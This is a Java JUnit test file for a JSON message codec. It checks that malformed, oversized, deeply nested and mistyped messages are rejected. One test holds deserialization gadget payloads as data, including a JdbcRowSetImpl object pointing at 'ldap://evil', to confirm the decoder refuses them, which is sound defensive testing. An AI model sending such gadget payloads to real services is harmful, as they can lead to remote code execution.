package io.framemill.protocol;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import io.framemill.protocol.media.Rational;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MessageCodecTest {
  private static final String STARTED =
      """
      {"version": 1, "type": "Started", "worker": "w",
       "attempt": {"job": "j", "task": "inspect", "number": 1}}""";

  private final MessageCodec codec = new MessageCodec();

  @Test
  void encodeForPeople_record_isOnLinesWithoutAVersion() {
    assertThat(new String(codec.encodeForPeople(new Rational(1, 25)), StandardCharsets.UTF_8))
        .isEqualTo("{\n  \"numerator\" : 1,\n  \"denominator\" : 25\n}\n");
  }

  @Test
  void decode_wellFormed_isTheMessage() throws MalformedMessageException {
    assertThat(decode(STARTED, Report.class))
        .isEqualTo(new Report.Started(new Attempt(new JobId("j"), "inspect", 1), "w"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "{",
        "[]",
        "null",
        "\"Started\"",
        "not JSON",
        "{} {}",
      })
  void decode_notOneJsonObject_isMalformed(String json) {
    requireMalformed(json);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "\"version\": 1 | \"version\": 2 | version 2; this is version 1",
        "\"version\": 1 | \"version\": \"1\" | version \"1\"; this is version 1",
        "\"version\": 1 | \"version\": 1.5 | version 1.5; this is version 1",
        "\"version\": 1 | \"version\": null | version null; this is version 1",
        "\"version\": 1, | `` | no version; this is version 1",
        "\"type\": \"Started\", | `` | missing type id property 'type'",
        "\"Started\" | \"Finished\" | Could not resolve type id 'Finished'",
        "\"Started\" | \"java.lang.String\" | Could not resolve type id 'java.lang.String'",
        "\"job\": \"j\" | \"job\": \"../j\" | not a job id",
        "\"job\": \"j\" | \"job\": 7 | not a Report",
        "\"number\": 1 | \"number\": 0 | attempts count from 1",
        "\"number\": 1 | \"number\": 1.5 | not a Report",
        "\"number\": 1 | \"number\": \"1\" | not a Report",
        "\"number\": 1 | \"number\": 99999999999 | not a Report",
        "\"worker\": \"w\" | \"worker\": {} | not a Report",
        "{\"job\": \"j\", \"task\": \"inspect\", \"number\": 1} | [] | not a Report",
      })
  void decode_oneThingWrong_isMalformedAndSaysWhat(String right, String wrong, String message) {
    assertThat(STARTED).contains(right);
    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(() -> decode(STARTED.replace(right, wrong), Report.class))
        .withMessageContaining(message);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"type\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"ldap://evil\"}",
        "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://evil\"}]",
        "{\"@class\": \"java.net.URL\"}",
        "[\"java.net.URL\", \"http://evil\"]"
      })
  void decode_classNameInPlaceOfAValue_isMalformed(String gadget) {
    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(() -> decode(STARTED.replace("\"w\"", gadget), Report.class));
    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(() -> decode(gadget.replace("{", "{\"version\": 1,"), Report.class));
  }

  @Test
  void decode_classNameBesideTheValues_meansNothing() throws MalformedMessageException {
    String named = STARTED.replace("{\"version\"", "{\"@class\": \"java.net.URL\", \"version\"");

    assertThat(decode(named, Report.class)).isEqualTo(decode(STARTED, Report.class));
  }

  @Test
  void decode_beyondTheLimitsOfJson_isMalformed() {
    requireMalformed("[".repeat(65) + "]".repeat(65));
    requireMalformed(STARTED.replace("\"w\"", "{\"a\":".repeat(65) + "1" + "}".repeat(65)));
    requireMalformed(STARTED.replace("\"w\"", "\"" + "w".repeat((1 << 20) + 1) + "\""));
    requireMalformed(STARTED.replace("\"number\": 1", "\"number\": 1" + "0".repeat(100)));
    requireMalformed(STARTED.replace("\"worker\"", "\"" + "w".repeat(257) + "\": 1, \"worker\""));
  }

  @Test
  void decode_reasonWithWhatWasSent_isShortAndOnOneLine() {
    String kind = "\\u001b[2J\\u0007" + "x".repeat(10_000);

    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(() -> decode(STARTED.replace("Started", kind), Report.class))
        .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(400).doesNotContain("\u001b"));
    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(
            () ->
                decode(
                    STARTED.replace("\"version\": 1", "\"version\": \"" + kind + "\""),
                    Report.class))
        .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(400));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "\"number\": 1 | \"number\": {} | attempt.number: it has the wrong type",
        "\"worker\": \"w\" | \"worker\": null | worker is missing",
        "\"worker\": \"w\" | \"worker\": [1 | was expecting comma to separate Array entries",
        "\"type\": \"Started\", | `` | missing type id property 'type'",
        "\"Started\" | \"Finished\" | Could not resolve type id 'Finished'",
        "\"job\": \"j\" | \"job\": \"../j\" | attempt.job: not a job id",
      })
  void decode_oneThingWrong_namesTheFieldAndNoClass(String right, String wrong, String message) {
    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(() -> decode(STARTED.replace(right, wrong), Report.class))
        .withMessageContaining(message)
        .satisfies(
            e -> assertThat(e.getMessage()).doesNotContain("framemill", "java.", "`", "Source"));
  }

  @Test
  void decode_anotherKindOfMessage_isMalformed() {
    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(() -> decode(STARTED, Task.class));
  }

  @Test
  void decode_numberForAnEnum_isMalformed() {
    String failed =
        STARTED
            .replace("Started", "Failed")
            .replace("\"worker\"", "\"kind\": 0, \"reason\": \"r\", \"log\": [], \"worker\"");
    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(() -> decode(failed, Report.class));
    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(() -> decode(failed.replace("\"kind\": 0", "\"kind\": \"X\""), Report.class));
  }

  @Test
  void decode_nestedWithoutEnd_isMalformed() {
    requireMalformed("{\"a\":".repeat(100_000));
    requireMalformed("{\"version\": 1, \"a\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}");
  }

  @Test
  void decode_tooLarge_isMalformed() {
    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(() -> codec.decode(new byte[MessageCodec.MAX_BYTES + 1], Report.class))
        .withMessage("8388609 bytes; the limit is 8388608");
  }

  @Test
  void encode_tooLarge_isRefused() {
    Attempt attempt = new Attempt(new JobId("j"), "inspect", 1);
    String reason = "x".repeat(MessageCodec.MAX_BYTES);
    assertThatIllegalArgumentException()
        .isThrownBy(() -> codec.encode(new Report.HandedBack(attempt, "w", reason)))
        .withMessageStartingWith("HandedBack of 8388")
        .withMessageEndingWith("bytes; the limit is 8388608");
  }

  @Test
  void encode_textInAnyLanguage_comesBack() throws MalformedMessageException {
    Report report =
        new Report.HandedBack(
            new Attempt(new JobId("j"), "inspect", 1), "w", "ガンダム \"x\"\n\u0000 🎬");
    assertThat(codec.decode(codec.encode(report), Report.class)).isEqualTo(report);
  }

  private void requireMalformed(String json) {
    assertThatExceptionOfType(MalformedMessageException.class)
        .isThrownBy(() -> decode(json, Report.class));
  }

  private <T> T decode(String json, Class<T> type) throws MalformedMessageException {
    return codec.decode(json.getBytes(StandardCharsets.UTF_8), type);
  }
}
